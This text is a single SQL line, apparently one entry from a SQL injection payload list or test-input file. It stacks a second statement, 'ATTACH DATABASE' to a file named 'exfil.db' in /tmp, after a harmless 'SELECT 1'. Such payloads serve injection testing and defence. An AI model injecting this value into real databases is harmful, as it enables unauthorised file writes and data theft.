SELECT 1;	ATTACH DATABASE '/tmp/exfil.db' AS exfil
